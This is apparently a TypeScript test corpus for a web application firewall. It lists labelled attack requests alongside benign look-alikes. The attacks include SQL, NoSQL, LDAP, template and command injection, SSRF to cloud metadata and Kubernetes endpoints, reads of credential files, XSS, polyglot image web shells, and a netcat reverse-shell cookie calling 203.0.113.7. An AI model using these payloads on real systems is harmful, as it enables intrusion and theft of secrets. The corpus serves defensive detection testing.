  { category: 'upload', name: 'XML import with a declaration and escaped entities', why: 'XML is an accepted body type: a plain document with &amp; and attributes', method: 'POST', path: '/api/imports', headers: XML('application/xml'), body: '<?xml version="1.0" encoding="UTF-8"?>\n<agents>\n  <agent id="agt_1" model="factory-large">Research &amp; summarise</agent>\n  <agent id="agt_2"><![CDATA[Use <b>bold</b> headings]]></agent>\n</agents>' },
  { category: 'upload', name: 'SOAP envelope', why: 'A SOAP 1.2 request with namespaces', method: 'POST', path: '/api/soap', headers: XML('application/soap+xml'), body: '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><GetRun xmlns="urn:factory"><id>run_42</id></GetRun></soap:Body></soap:Envelope>' },
  { category: 'upload', name: 'XHTML page with the W3C doctype', why: 'The standard XHTML doctype names a W3C PUBLIC identifier', method: 'PUT', path: '/api/pages/about', headers: XML('application/xml'), body: '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><head><title>About</title></head><body><p>Hi</p></body></html>' },
  { category: 'prompt', name: 'prompt about doctypes and XML entities', why: 'Users ask about markup and XXE in words', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why must the HTML5 doctype be the first line, what is an external entity in a DTD, and how do I disable entity resolution in libxml2 (XML_PARSE_NOENT) to prevent XXE?') },
];

/**
 * Injections into other interpreters and shapes the CRS at PL1 leaves open, written from their structure: LDAP
 * filter syntax, SMTP/IMAP commands after a line break, NoSQL breakouts and server-side JavaScript,
 * deserialization tags and UNC paths, SQL that closes a parenthesis first, and XSS, SSTI and SSI in the URL path.
 */
const OTHER_ATTACKS: CorpusEntry[] = [
  { category: 'ldap', name: 'wildcard closed then an OR filter', why: 'Turns (uid=INPUT) into a filter that matches every entry', path: '/api/directory/users?uid=*)(uid=*))(|(uid=*' },
  { category: 'ldap', name: 'OR combinator in a login form', why: 'An always-true branch in the bind filter', method: 'POST', path: '/api/auth/login', headers: form, body: 'username=%28%7C%28cn%3Dadmin%29%28cn%3D%2A%29%29&password=x' },
  { category: 'ldap', name: 'negated objectClass in JSON', why: 'Closes the attribute and negates an impossible class', method: 'POST', path: '/api/directory/search', headers: bearer, json: { name: 'admin)(!(objectClass=void' } },
  { category: 'ldap', name: 'extensible match with an OID', why: 'Matches on the password attribute through an extensible match rule', path: '/api/directory/users?filter=userPassword:2.5.13.18:=secret' },
  { category: 'mail', name: 'RCPT TO after a line break in an address', why: 'Adds a recipient when the value is written to an SMTP session', path: '/api/notify?to=ops@example.com%0D%0ARCPT%20TO:%3Cattacker@evil.example%3E' },
  { category: 'mail', name: 'tagged IMAP FETCH in a folder name', why: 'A second IMAP command through a proxy that forwards the folder name', method: 'POST', path: '/api/mail/open', headers: form, body: 'folder=INBOX%0D%0AA002%20FETCH%201:*%20(BODY%5B%5D)' },
  { category: 'mail', name: 'QUIT on a line of its own', why: 'Ends the SMTP session early (probe of mail command injection)', method: 'POST', path: '/api/contact', headers: bearer, json: { subject: 'hello\r\nQUIT\r\n' } },
  { category: 'nosql', name: 'string breakout into $ne', why: 'Leaves the string and adds an operator to the query object', path: "/api/users?name=admin'%2C%20%24ne%3A%20'x" },
  { category: 'nosql', name: '$where after a boolean', why: 'Server-side JavaScript in a query built by concatenation', path: "/api/runs?active=true%2C%20%24where%3A%20'sleep(500)'" },
  { category: 'nosql', name: 'a whole MongoDB shell call', why: 'A value evaluated by a mongo shell or eval()', method: 'POST', path: '/api/admin/query', headers: bearer, json: { query: 'db.users.drop()' } },
  { category: 'nosql', name: 'separator then a JavaScript timing loop', why: 'Blind $where injection by busy-waiting', path: '/api/items?id=0%3Bvar%20t%3Dnew%20Date()%3Bwhile(new%20Date()-t%3C3000)%7B%7D' },
  { category: 'nosql', name: 'return true from a $where string', why: "The classic ' ; return true; bypass of a $where check", path: "/api/auth/check?user=x'%3B%20return%20true%3B%20var%20y%3D'" },
  { category: 'deserialization', name: 'YAML python object tag', why: 'PyYAML full_load runs os.system', method: 'POST', path: '/api/agents/import', headers: form, body: 'config=!!python/object/apply:os.system%20%5B%22id%22%5D' },
  { category: 'deserialization', name: 'PHP serialized object', why: 'unserialize() instantiates an attacker-chosen class', path: '/api/session?state=O:8:%22stdClass%22:1:%7Bs:4:%22file%22;s:11:%22/etc/passwd%22;%7D' },
  { category: 'deserialization', name: 'Java serialized stream in base64', why: 'rO0AB is the base64 of a Java serialization header', path: '/api/legacy?token=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC' },
  { category: 'deserialization', name: 'UNC path to another host', why: 'A Windows server following it authenticates to the attacker (NTLM relay) or loads a remote file', path: '/api/files?path=%5C%5Cattacker.example%5Cshare%5Cx.dll' },
  { category: 'sqli', name: 'parenthesis breakout with a JSON function', why: 'Closes a bracketed expression and compares a JSON function result', path: '/api/runs?id=123)%20AND%2012%3D12%20AND%20JSON_DEPTH(%27%7B%7D%27)%20!%3D%202521' },
  { category: 'sqli', name: 'quoted parenthesis breakout in a form', why: "Closes ') and continues with OR", method: 'POST', path: '/api/search', headers: form, body: "q=-1134')%20OR%20JSON_EXTRACT('%7B%7D'%2C%20'%24.a')%20%3D%201%20AND%20('a'%20LIKE%20'a" },
  { category: 'xss', name: 'javascript: URL in a path segment', why: 'Path segments reflected into links', path: "/api/redirect/javascript:setInterval('ale'+'rt(1)')" },
  { category: 'xss', name: 'call through Function.prototype in the path', why: 'confirm.call in a reflected path', path: '/api/pages/confirm.call(null,1)' },
  { category: 'xss', name: 'parenthesized callee', why: '(alert)(1) calls alert without writing alert(', path: '/api/search?q=(alert)(1)' },
  { category: 'xss', name: 'constructor with a code string', why: 'Function constructor reached through a prototype chain', path: "/api/search?q=__proto__%5Bv-if%5D%3D_c.constructor('alert(1)')()" },
  { category: 'cmdi', name: 'template arithmetic in the path', why: 'Server-side template injection in a reflected path', path: '/api/greetings/%7B%7B1337*1338%7D%7D' },
  { category: 'cmdi', name: 'server-side include in the path', why: 'SSI exec reached through a path an SSI-enabled server renders', path: '/api/pages/%3C!--%23exec%20cmd=%22id%22%20--%3E' },
  { category: 'cmdi', name: 'server-side include in a multipart field', why: 'SSI in a field stored and rendered', method: 'POST', path: '/api/pages', headers: bearer, form: { fields: { footer: '<!--#include virtual="/etc/passwd" -->' } } },
];

const OTHER_BENIGN: CorpusEntry[] = [
  { category: 'prompt', name: 'JavaScript with a negated condition', why: 'Code uses (!(a && b)), which looks like an LDAP negation', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Is this right? if (!(user && user.isAdmin)) { return res.status(403); } else if (!(x)) { next(); }') },
  { category: 'prompt', name: 'C and JavaScript code with address-of, a function pointer and an early return', why: 'Code shapes near LDAP and $where breakouts', method: 'POST', path: '/api/runs', headers: bearer, json: prompt("Why does memcpy(&(buf[0]), src, n) crash here? typedef void (*)(int) is rejected too. In JS: const s = 'x'; return true; works.") },
  { category: 'prompt', name: 'question about LDAP filters in words', why: 'Users ask how to write directory queries', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Write an LDAP filter that finds everyone in the Sales OU whose account is not disabled.') },
  { category: 'write', name: 'multi-line letter with To: and Data lines', why: 'Drafts start lines with To:, Data and Quit in prose', method: 'POST', path: '/api/notes', headers: bearer, json: { body: 'To: the team\nData is attached for Q3.\nQuit worrying about the deadline, we have time.\nThanks' } },
  { category: 'prompt', name: 'MongoDB question with an operator and a shell call in a sentence', why: 'A developer asks about $gt and db.users.find', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why does db.users.find({ age: { $gt: 30 } }) return nothing when ages are stored as strings?') },
  { category: 'read', name: 'local Windows path in a query', why: 'Drive-letter paths are not UNC shares', path: '/api/files?path=C%3A%5CUsers%5Cana%5Creport.pdf' },
  { category: 'write', name: 'YAML config without language tags', why: 'Agents are configured in YAML, with the standard !!str tag', method: 'POST', path: '/api/agents/import', headers: bearer, json: { config: 'name: researcher\nmodel: factory-large\nversion: !!str 1.10\ntools:\n  - search\n' } },
  { category: 'read', name: 'numbered options in a query', why: 'A value that starts with a number and a parenthesis without SQL after it', path: '/api/search?q=1)%20open%20the%20file%202)%20save%20it' },
];

/**
 * Hold-out round 3: a public-suite-style payload matrix (each payload in the query, the path, a custom header,
 * the User-Agent, a cookie, a form, a multipart field, a JSON field and an XML body) that the rules missed,
 * written from each class's structure, with neighbours the new patterns must leave alone. Names start with
 * "holdout-3:".
 */
const HOLDOUT_3_ATTACKS: CorpusEntry[] = [
  { category: 'lfi-rfi', name: 'holdout-3: service-account token path in a query', why: 'The credential a pod carries; a file-read or fetch parameter pointed at it', path: '/api/files/read?path=/var/run/secrets/kubernetes.io/serviceaccount/token' },
  { category: 'lfi-rfi', name: 'holdout-3: service-account namespace file in JSON', why: 'The same folder without /var', method: 'POST', path: '/api/files/read', headers: bearer, json: { path: '/run/secrets/kubernetes.io/serviceaccount/namespace' } },
  { category: 'lfi-rfi', name: 'holdout-3: /proc/self/environ in a custom header', why: 'Environment variables (secrets) of the process through a header an app reads files from', path: '/api/agents', headers: { ...bearer, 'X-Template-Path': '/proc/self/environ' } },
  { category: 'lfi-rfi', name: 'holdout-3: /proc/<pid>/cmdline in the path', why: 'Another process\'s command line through a path parameter', path: '/api/files/%2Fproc%2F1%2Fcmdline' },
  { category: 'lfi-rfi', name: 'holdout-3: kubeconfig in a form', why: 'A cluster-admin credential file', method: 'POST', path: '/api/import', headers: form, body: 'source=%2Froot%2F.kube%2Fconfig' },
  { category: 'lfi-rfi', name: 'holdout-3: file:// URL in the User-Agent', why: 'A scheme that makes a fetcher read local files', path: '/api/health', headers: { 'User-Agent': 'file:///etc/hosts' } },
  { category: 'lfi-rfi', name: 'holdout-3: file://localhost URL in the path', why: 'The same scheme with a host part', path: '/api/fetch/file%3A%2F%2Flocalhost%2Fetc%2Fhosts' },
  { category: 'lfi-rfi', name: 'holdout-3: SSRF to the Kubernetes API', why: 'kubernetes.default.svc answers a pod with its service-account rights', method: 'POST', path: '/api/webhooks', headers: bearer, json: { url: 'https://kubernetes.default.svc/api/v1/namespaces/factory/secrets' } },
  { category: 'lfi-rfi', name: 'holdout-3: SSRF to metadata as an IPv4-mapped IPv6 literal', why: '[::ffff:169.254.169.254] is the metadata address in IPv6 notation', path: '/api/fetch?url=http://%5B::ffff:169.254.169.254%5D/latest/meta-data/' },
  { category: 'lfi-rfi', name: 'holdout-3: SSRF to metadata as mapped hex groups', why: '[0:0:0:0:0:ffff:a9fe:a9fe] is the same address in hex', method: 'POST', path: '/api/webhooks', headers: bearer, json: { url: 'http://[0:0:0:0:0:ffff:a9fe:a9fe]/' } },
  { category: 'lfi-rfi', name: 'holdout-3: SSRF to the Docker API on loopback', why: 'An unauthenticated Docker socket over TCP runs containers as root', path: '/api/fetch?url=http://localhost:2375/containers/json' },
  { category: 'lfi-rfi', name: 'holdout-3: SSRF to the kubelet on loopback', why: 'The kubelet read-write port lists and execs into pods', method: 'POST', path: '/api/webhooks', headers: bearer, json: { url: 'https://127.0.0.1:10250/pods' } },
  { category: 'lfi-rfi', name: 'holdout-3: dict:// URL in the path', why: 'An internal-only scheme in a path segment', path: '/api/fetch/dict%3A%2F%2F127.0.0.1%3A11211%2Fstats' },
  { category: 'lfi-rfi', name: 'holdout-3: an SSH private key path in a custom header', why: 'A header an application reads a file from', path: '/api/agents', headers: { ...bearer, 'X-Template': '~/.ssh/id_ed25519' } },
  { category: 'lfi-rfi', name: 'holdout-3: win.ini in the User-Agent', why: 'The Windows probe file where the CRS does not look', path: '/api/health', headers: { 'User-Agent': 'C:\\Windows\\win.ini' } },
  { category: 'lfi-rfi', name: 'holdout-3: a php://filter stream in the path', why: 'Source disclosure through a PHP stream wrapper in a path segment', path: '/api/page/php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex.php' },
  { category: 'lfi-rfi', name: 'holdout-3: .git metadata in a custom header', why: 'Repository metadata read through a file parameter', path: '/api/agents', headers: { ...bearer, 'X-Include': '/.git/config' } },
  { category: 'lfi-rfi', name: 'holdout-3: shell history in a form', why: 'Commands and secrets typed into a shell', method: 'POST', path: '/api/import', headers: form, body: 'file=%2Froot%2F.bash_history' },
  { category: 'lfi-rfi', name: 'holdout-3: SSRF to the ECS task credentials endpoint', why: '169.254.170.2 hands out an AWS task role\'s keys', method: 'POST', path: '/api/webhooks', headers: bearer, json: { url: 'http://169.254.170.2/v2/credentials/1a2b' } },
  { category: 'lfi-rfi', name: 'holdout-3: SSRF to loopback written short', why: 'http://127.1/ is 127.0.0.1 in the short dotted form', path: '/api/agents', headers: { ...bearer, 'X-Callback-Url': 'http://127.1:8080/admin' } },
  { category: 'sqli', name: 'holdout-3: numeric tautology in the path', why: '/items/1 or 2=2 in a REST id', path: '/api/items/1%20or%202%3D2' },
  { category: 'sqli', name: 'holdout-3: subquery with IF in the path', why: 'Error-based SQLi in a REST id that libinjection misses', path: '/api/items/1%20AND%20(SELECT%202*(IF((SELECT%20*%20FROM%20(SELECT%20CONCAT(0x71,(SELECT%20database()),0x71))s),%201,%201)))' },
  { category: 'sqli', name: 'holdout-3: RLIKE with CASE WHEN in the path', why: 'Boolean-based SQLi in a REST id', path: '/api/items/1%20RLIKE%20(SELECT%20(CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%200x28%20END))' },
  { category: 'xss', name: 'holdout-3: string breakout and alert in a custom header', why: "';alert(String.fromCharCode(88,83,83))// in a header echoed into a script", path: '/api/agents', headers: { ...bearer, 'X-Display-Name': "';alert(String.fromCharCode(88,83,83))//" } },
  { category: 'xss', name: 'holdout-3: built property name in the User-Agent', why: "window['ale'+'rt'] in a header shown in an admin log viewer", path: '/api/health', headers: { 'User-Agent': "window['ale'+'rt'](1)" } },
  { category: 'xss', name: 'holdout-3: decoded property name on self', why: "self[atob('YWxlcnQ=')] hides the function name in base64", path: "/api/search?q=self%5Batob('YWxlcnQ%3D')%5D(1)" },
  { category: 'xss', name: 'holdout-3: event handler split by throwaway tags', why: 'A sanitiser that strips unknown tags turns o<x>nfocus=alert<x>(1) into a handler', method: 'POST', path: '/api/comments', headers: bearer, form: { fields: { text: '"autof<y>ocus o<y>nfocus=confirm<y>(1)//' } } },
  { category: 'xss', name: 'holdout-3: regex source as a property name', why: 'top[/al/.source+/ert/.source] builds the name from regex literals', method: 'POST', path: '/api/comments', headers: bearer, json: { text: 'top[/al/.source+/ert/.source](1)' } },
  { category: 'xss', name: 'holdout-3: entity-encoded tab inside javascript: in a header', why: 'A link with jav&#x09;ascript: in a header reflected as HTML', path: '/api/agents', headers: { ...bearer, 'X-Link': '<a href="jav&#x09;ascript:alert(1)">x</a>' } },
  { category: 'cmdi', name: 'holdout-3: wildcard-spelled command and file', why: '/bin/c?t /e??/p??swd: the shell expands ? where a filter looks for cat and passwd', path: '/api/tools/ping?host=a%3B%2Fbin%2Fc%3Ft%20%2Fe%3F%3F%2Fp%3F%3Fswd' },
  { category: 'cmdi', name: 'holdout-3: Windows type of a system file', why: '& type C:\\Windows\\win.ini on a Windows host', method: 'POST', path: '/api/tools/run', headers: bearer, json: { host: 'localhost & type C:\\Windows\\win.ini' } },
  { category: 'cmdi', name: 'holdout-3: Windows net user /add', why: 'Creating an account through a piped command', path: '/api/tools/ping?host=127.0.0.1%20%7C%20net%20user%20hacker%20P%40ss1%20%2Fadd' },
  { category: 'cmdi', name: 'holdout-3: backtick sleep with a number', why: 'Time-based blind command injection: `sleep 10`', method: 'POST', path: '/api/tools/run', headers: bearer, json: { host: '`sleep 10`' } },
  { category: 'cmdi', name: 'holdout-3: command in an XML body', why: 'A shell separator in an XML element', method: 'POST', path: '/api/tools/run', headers: { ...bearer, 'Content-Type': 'application/xml' }, body: '<?xml version="1.0"?><job><host>127.0.0.1 | id</host></job>' },
  { category: 'cmdi', name: 'holdout-3: __import__ of subprocess', why: 'Python code injection through another module than os', path: "/api/tools/calc?expr=__import__('subprocess').check_output('id',shell=True)" },
  { category: 'cmdi', name: 'holdout-3: constructor.constructor sandbox escape', why: "this.constructor.constructor('return process')() reaches Node's process from a sandbox", method: 'POST', path: '/api/tools/calc', headers: bearer, json: { expr: "this.constructor.constructor('return process')().exit()" } },
  { category: 'cmdi', name: 'holdout-3: PHP eval of base64_decode in a header', why: 'The classic obfuscated PHP payload in a logged header', path: '/api/agents', headers: { ...bearer, 'X-Debug': "eval(base64_decode('cGhwaW5mbygpOw=='))" } },
  { category: 'cmdi', name: 'holdout-3: PHP assert of phpinfo in JSON', why: 'assert() evaluates its string argument on old PHP', method: 'POST', path: '/api/tools/calc', headers: bearer, json: { expr: 'assert(phpinfo())' } },
  { category: 'cmdi', name: 'holdout-3: Jinja probe with a quoted operand', why: "{{7*'7'}} renders 7777777 in Jinja and 49 in Twig", path: "/api/greetings?name=%7B%7B7*'7'%7D%7D" },
  { category: 'cmdi', name: 'holdout-3: template polyglot', why: "${{<%[%'\"}}%\\. makes any template engine throw", method: 'POST', path: '/api/templates/preview', headers: bearer, json: { body: "${{<%[%'\"}}%\\." } },
  { category: 'cmdi', name: 'holdout-3: Smarty version probe', why: '{$smarty.version} prints the engine version where Smarty renders input', path: '/api/greetings?name=%7B%24smarty.version%7D' },
  { category: 'cmdi', name: 'holdout-3: Twig _self.env filter callback', why: 'Twig 1 RCE through registerUndefinedFilterCallback', method: 'POST', path: '/api/templates/preview', headers: bearer, json: { body: '{{_self.env.registerUndefinedFilterCallback("system")}}{{_self.env.getFilter("id")}}' } },
  { category: 'cmdi', name: 'holdout-3: Handlebars #with as |…| chain', why: 'The opening of the Handlebars prototype-walk RCE', method: 'POST', path: '/api/templates/preview', headers: bearer, json: { body: '{{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}' } },
  { category: 'cmdi', name: 'holdout-3: Thymeleaf selection arithmetic', why: '*{7*7} renders 49 in Thymeleaf', path: '/api/greetings?name=*%7B7*7%7D' },
  { category: 'cmdi', name: 'holdout-3: Jinja attr filter with escaped underscores', why: "|attr('\\x5f\\x5fglobals\\x5f\\x5f') walks past a filter on __", path: "/api/greetings?name=%7B%7Brequest%7Cattr('%5Cx5f%5Cx5fglobals%5Cx5f%5Cx5f')%7D%7D" },
  { category: 'cmdi', name: 'holdout-3: Razor arithmetic probe', why: '@(7*7) renders 49 in ASP.NET Razor', path: '/api/greetings?name=%40(7*7)' },
  { category: 'protocol', name: 'holdout-3: encoded CRLF and Location in a JSON field', why: 'A redirect target copied into a Location header', method: 'POST', path: '/api/auth/session', headers: bearer, json: { next: '%0d%0aLocation:%20http://evil.example' } },
  { category: 'protocol', name: 'holdout-3: encoded CRLF in a form field', why: 'The same in a form body', method: 'POST', path: '/api/feedback', headers: form, body: 'next=%250d%250aSet-Cookie%3A%20session%3Devil' },
  { category: 'protocol', name: 'holdout-3: UTF-8 CRLF lookalikes before Set-Cookie', why: 'U+560A U+560D, which some servers truncate to LF CR (CVE-2016-4000 family)', path: '/api/redirect?to=foo%E5%98%8A%E5%98%8DSet-Cookie:%20x=1' },
  { category: 'mail', name: 'holdout-3: Bcc header after an address', why: 'victim@example.com then CR LF then Bcc: adds recipients', method: 'POST', path: '/api/invitations', headers: bearer, json: { email: 'victim@example.com\r\nBcc: spam@example.net' } },
  { category: 'mail', name: 'holdout-3: encoded LF and Cc after an address', why: 'The same with an encoded LF in a query', path: '/api/notify?to=a@b.example%250ACc:evil@example.com' },
  { category: 'mail', name: 'holdout-3: IMAP command in a multipart field', why: 'libmodsecurity joins the lines of a multipart field; the raw body still shows the line break', method: 'POST', path: '/api/mail/open', headers: bearer, form: { fields: { folder: 'INBOX\r\nA002 LOGOUT' } } },
  { category: 'mail', name: 'holdout-3: SMTP RCPT TO in a multipart field', why: 'A second recipient through a multipart subject', method: 'POST', path: '/api/contact', headers: bearer, form: { fields: { subject: 'x\r\nRCPT TO: <attacker@example.com>\r\nDATA' } } },
  { category: 'nosql', name: 'holdout-3: JSON query object as a query value', why: '{"username": {"$ne": null}} parsed by a server that JSON-decodes the parameter', path: '/api/users?filter=%7B%22username%22%3A%20%7B%22%24ne%22%3A%20null%7D%7D' },
  { category: 'nosql', name: 'holdout-3: operator object in a custom header', why: '{"$gt": ""} in a header used as a filter', path: '/api/users', headers: { ...bearer, 'X-Filter': '{"$gt": ""}' } },
  { category: 'nosql', name: 'holdout-3: $where breakout in the path', why: "'; return true; var x=' in a REST id", path: "/api/users/'%3B%20return%20true%3B%20var%20x%3D'" },
  { category: 'ldap', name: 'holdout-3: LDAP filter in the path', why: '*)(objectClass=* in a REST id used in a directory lookup', path: '/api/directory/users/*)(objectClass=*' },
  { category: 'prototype-pollution', name: 'holdout-3: __proto__ in a JSON body', why: 'A merge of the body into an object pollutes Object.prototype', method: 'POST', path: '/api/agents/agt_01J9Z3/settings', headers: bearer, json: JSON.parse('{"__proto__": {"isAdmin": true}}') },
  { category: 'prototype-pollution', name: 'holdout-3: constructor[prototype] in a query', why: 'qs-style brackets reach the prototype through the constructor', path: '/api/agents?constructor%5Bprototype%5D%5BisAdmin%5D=true' },
  { category: 'prototype-pollution', name: 'holdout-3: __proto__ brackets in a form', why: 'The same through a form body', method: 'POST', path: '/api/users/me', headers: form, body: '__proto__%5Badmin%5D=1' },
  { category: 'prototype-pollution', name: 'holdout-3: constructor.prototype as nested JSON keys', why: 'The JSON spelling of constructor[prototype]', method: 'POST', path: '/api/agents/agt_01J9Z3/settings', headers: bearer, json: { constructor: { prototype: { polluted: 1 } } } },
  { category: 'upload', name: 'holdout-3: a GIF that is also a PHP script', why: 'GIF89a then <?php: a valid image header hiding a web shell', method: 'POST', path: '/api/users/me/avatar', headers: bearer, form: up('avatar.gif', 'image/gif', 'GIF89a\x01\x00\x01\x00<?php system($_GET["c"]); ?>') },
  { category: 'upload', name: 'holdout-3: a JPEG with a JSP page directive in its comment', why: 'A scriptlet in the image comment segment', method: 'POST', path: '/api/users/me/avatar', headers: bearer, form: up('me.jpg', 'image/jpeg', Buffer.concat([Buffer.from('ffd8fffe0030', 'hex'), Buffer.from('<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>'), Buffer.from('ffd9', 'hex')])) },
  { category: 'cmdi', name: 'holdout-3: a whole command line as a query value', why: 'A parameter handed to a shell as it is', path: '/api/tools/exec?cmd=cat%20%2Fetc%2Fhostname' },
  { category: 'cmdi', name: 'holdout-3: a command with an option as a form value', why: 'The same through a form', method: 'POST', path: '/api/tools/exec', headers: form, body: 'cmd=ls%20-la%20%2Fvar%2Fwww' },
  { category: 'cmdi', name: 'holdout-3: a reverse shell as a cookie value', why: 'A value that is a netcat command piped to a shell', path: '/api/me', headers: { Cookie: 'job=nc 203.0.113.7 4444 | sh' } },
  { category: 'cmdi', name: 'holdout-3: a bare whoami in a custom header', why: 'The probe of a header passed to a shell', path: '/api/agents', headers: { ...bearer, 'X-Run': 'whoami' } },
  { category: 'cmdi', name: 'holdout-3: a command, a mode and a path as a query value', why: 'chmod 777 /tmp/x: a word argument, then a path', path: '/api/tools/exec?cmd=chmod%20777%20%2Ftmp%2Frun.sh' },
  { category: 'cmdi', name: 'holdout-3: a pipe to awk in a query', why: 'A command the first list does not know, with an argument that is a script', path: "/api/tools/ping?host=127.0.0.1%7Cawk%20-F%3A%20'%7Bprint%20%241%7D'%20%2Fetc%2Fpasswd" },
  { category: 'cmdi', name: 'holdout-3: Windows ver after an ampersand', why: 'The shortest Windows fingerprint of cmd.exe', path: '/api/tools/ping?host=127.0.0.1%20%26%20ver' },
  { category: 'cmdi', name: 'holdout-3: Windows arithmetic probe after a pipe', why: 'set /a prints the product when cmd.exe runs the value', path: '/api/tools/ping?host=127.0.0.1%20%7C%20set%20%2Fa%206*7' },
  { category: 'cmdi', name: 'holdout-3: getent hosts of a collaborator domain', why: 'Out-of-band DNS proof of command injection', method: 'POST', path: '/api/tools/run', headers: bearer, json: { host: 'x.example|getent hosts oob.attacker.example&' } },
  { category: 'cmdi', name: 'holdout-3: ASP web shell fragment', why: 'Server.ScriptTimeout opens the classic ASP eval shell', method: 'POST', path: '/api/pages', headers: form, body: 'body=Server.ScriptTimeout%3D3600%3AOn%20Error%20Resume%20Next%3AExecute(Request(%22c%22))' },
  { category: 'xxe', name: 'holdout-3: schema include of a remote namespace', why: 'A validating parser fetches what xs:include names', method: 'POST', path: '/api/import', headers: { ...bearer, 'Content-Type': 'application/xml' }, body: '<?xml version="1.0"?><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:import namespace="http://oob.attacker.example/ns"/></xs:schema>' },
  { category: 'xxe', name: 'holdout-3: a lone schemaLocation URL', why: 'One location instead of namespace-location pairs points the parser at a host', method: 'POST', path: '/api/import', headers: { ...bearer, 'Content-Type': 'application/xml' }, body: '<?xml version="1.0"?><doc xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://oob.attacker.example/s.xsd"/>' },
  { category: 'protocol', name: 'holdout-3: X-Original-URL path override', why: 'A request for / that a framework routes to /admin behind the edge', path: '/api/health', headers: { 'X-Original-URL': '/api/admin/users' } },
  { category: 'protocol', name: 'holdout-3: X-Rewrite-URL path override', why: 'The IIS spelling of the same bypass', path: '/api/health', headers: { 'X-Rewrite-URL': '/api/admin' } },
  { category: 'scanner', name: 'holdout-3: an interactsh callback host in a browser User-Agent', why: 'Blind-injection scanners append their out-of-band host to headers', path: '/api/health', headers: { 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0 admin@c9k2x7q1.oast.fun' } },
  { category: 'scanner', name: 'holdout-3: a Collaborator host in a JSON field', why: 'An SSRF or XXE probe calling home', method: 'POST', path: '/api/webhooks', headers: bearer, json: { url: 'https://q1w2e3r4.oastify.com/hook' } },
  { category: 'scanner', name: 'holdout-3: a Nessus plugin name in the User-Agent', why: 'Nessus names the .nasl plugin that sent the request', path: '/api/health', headers: { 'User-Agent': "forum_agent_sqli.nasl'" } },
  { category: 'xss', name: 'holdout-3: eval of atob in a multipart field', why: 'A base64 payload decoded and run', method: 'POST', path: '/api/pages', headers: bearer, form: { fields: { footer: 'eval(atob("Y29uZmlybSgxKQ=="))' } } },
  { category: 'api-reconnaissance', name: 'holdout-3: GraphQL introspection in a GET query', why: 'A scanner asks the API for its whole schema', path: '/api/graphql?query=%7B__schema%7BqueryType%7Bname%7D%7D%7D' },
  { category: 'api-reconnaissance', name: 'holdout-3: GraphQL __type introspection in a JSON body', why: 'The fields of one type, the next step of the same map', method: 'POST', path: '/api/graphql', headers: bearer, json: { query: 'query { __type(name: "Agent") { fields { name } } }' } },
  { category: 'api-reconnaissance', name: 'holdout-3: GraphQL introspection as a raw body without a content type', why: 'A body the JSON parser never sees', method: 'POST', path: '/api/graphql', body: '{"query": "IntrospectionQuery{__schema {types { name }}}"}' },
  { category: 'prototype-pollution', name: 'holdout-3: __proto__ object in a custom header', why: 'A header value that is JSON-merged', path: '/api/agents', headers: { ...bearer, 'X-Prefs': '{"__proto__":{"isAdmin":true}}' } },
  { category: 'sqli', name: 'path: a quote and paren closed, then OR a JSON function compared', why: 'Breaking out of a quoted REST id; libinjection and the CRS pass it in the path', path: "/api/items/-7412')%20OR%20JSON_EXTRACT('%7B''k''%3A%2031%7D'%2C%20'%24.k')%20%3D%2031*17%20AND%20('ab'%20LIKE%20'ab" },
  { category: 'sqli', name: 'path: a quote and paren closed, then AND a function compared to a number', why: 'Boolean probe after a quoted path id', path: "/api/items/9')%20AND%20JSON_LENGTH('%5B1%5D')%20%3E%200%20AND%20('z'='z" },
];

const HOLDOUT_3_BENIGN: CorpusEntry[] = [
  { category: 'prompt', name: 'holdout-3: question about the service-account token in words', why: 'Kubernetes prose without the path', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Kubernetes pods mount a service account token; explain how RBAC limits what it can do.') },
  { category: 'prompt', name: 'holdout-3: ordinary file paths and a URL', why: 'Home folders, config files and https links', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('The file lives at /home/ana/reports/q3.pdf and the config in config/app.yaml; docs at https://docs.example.com/guide?section=install.') },
  { category: 'prompt', name: 'holdout-3: GitHub Actions expression and a Jinja name', why: '${{ secrets.TOKEN }} and {{ user.name }} are template names, not probes', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why is ${{ secrets.TOKEN }} empty in my workflow, and what does {{ user.name }} print in Jinja?') },
  { category: 'prompt', name: 'holdout-3: Handlebars triple braces and ERB output', why: '{{{body}}} and <%= user.name %> in a template question', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Should I use {{{body}}} or {{body}} in Handlebars? In ERB I write <%= user.name %>.') },
  { category: 'prompt', name: 'holdout-3: prototype prose and setPrototypeOf', why: 'JavaScript questions name prototypes', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Is obj.__proto__ deprecated? Should I call Object.setPrototypeOf(obj, proto) or use Foo.prototype.bar?') },
  { category: 'prompt', name: 'holdout-3: a pasted email with To and Subject lines', why: 'A forwarded email starts with header lines, not a bare address', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Summarise this email:\nFrom: Ana <ana@example.com>\nTo: team@example.com\nSubject: Q3 plan\n\nHi all, the plan is attached.') },
  { category: 'prompt', name: 'holdout-3: a pasted HTTP response in a prompt', why: 'Developers paste real line breaks and headers when debugging', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why does the browser not follow this?\nHTTP/1.1 302 Found\nLocation: https://app.example.com/home\nSet-Cookie: sid=abc; Secure') },
